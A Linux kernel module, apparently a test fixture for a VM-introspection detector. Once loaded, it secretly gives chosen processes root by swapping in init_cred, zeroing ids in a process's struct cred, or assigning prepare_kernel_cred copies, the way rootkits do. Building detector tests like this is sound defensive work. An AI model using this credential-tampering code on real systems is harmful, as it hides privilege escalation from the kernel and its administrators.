// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_creds: makes user processes root behind the kernel's back, two ways.
 * - init_pid=N: points the task's cred and real_cred at init_cred (the kernel's own
 *   root credentials).
 * - zero_pid=N: writes 0 into every id of the task's existing credentials, as rootkits
 *   that edit `struct cred` in place do; cred->user still names the old uid.
 * - kcred_pid=N: gives the task a fresh copy of the kernel's credentials
 *   (prepare_kernel_cred, what `commit_creds(prepare_kernel_cred(0))` rootkits do for
 *   themselves): consistent in itself, so only a change over time shows it.
 */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/cred.h>
#include <linux/uidgid.h>
#include "vmi_attack.h"

static int init_pid = -1;
module_param(init_pid, int, 0444);
MODULE_PARM_DESC(init_pid, "the process to give init_cred");
static int zero_pid = -1;
module_param(zero_pid, int, 0444);
MODULE_PARM_DESC(zero_pid, "the process whose credentials get uid 0 written in");
static int kcred_pid = -1;
module_param(kcred_pid, int, 0444);
MODULE_PARM_DESC(kcred_pid, "the process to give a copy of the kernel's credentials");

static struct task_struct *find_task(int nr)
{
	struct task_struct *task = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (!task)
		pr_err("vmi_creds: no process %d\n", nr);
	return task;
}

static int __init vmi_creds_init(void)
{
	/* before rcu_read_lock: the kprobe lookup waits for an RCU grace period */
	struct cred *init_cred_p = (struct cred *)vmi_lookup("init_cred");
	/* prepare_kernel_cred may sleep: before rcu_read_lock too */
	struct cred *kcred = kcred_pid > 0 ? prepare_kernel_cred(&init_task) : NULL;
	struct task_struct *task;
	int err = 0;

	rcu_read_lock();
	if (init_pid > 0) {
		task = find_task(init_pid);
		if (!task || !init_cred_p) {
			err = -ESRCH;
			goto out;
		}
		get_cred(init_cred_p);
		get_cred(init_cred_p);
		rcu_assign_pointer(task->real_cred, init_cred_p);
		rcu_assign_pointer(task->cred, init_cred_p);
		pr_info("vmi_creds: %d (%s) runs with init_cred\n", init_pid, task->comm);
	}
	if (zero_pid > 0) {
		struct cred *c;
		task = find_task(zero_pid);
		if (!task) {
			err = -ESRCH;
			goto out;
		}
		c = (struct cred *)rcu_dereference(task->real_cred);
		c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
		c->gid = c->egid = c->sgid = c->fsgid = GLOBAL_ROOT_GID;
		pr_info("vmi_creds: %d (%s) has uid 0 written into its cred\n", zero_pid, task->comm);
	}
	if (kcred_pid > 0) {
		task = find_task(kcred_pid);
		if (!task || !kcred) {
			err = -ESRCH;
			goto out;
		}
		get_cred(kcred);
		rcu_assign_pointer(task->real_cred, kcred);
		rcu_assign_pointer(task->cred, kcred);
		kcred = NULL;
		pr_info("vmi_creds: %d (%s) has a copy of the kernel's credentials\n", kcred_pid, task->comm);
	}
out:
	rcu_read_unlock();
	if (kcred)
		put_cred(kcred);
	return err;
}

module_init(vmi_creds_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmi detector test: give processes root credentials behind the kernel's back");
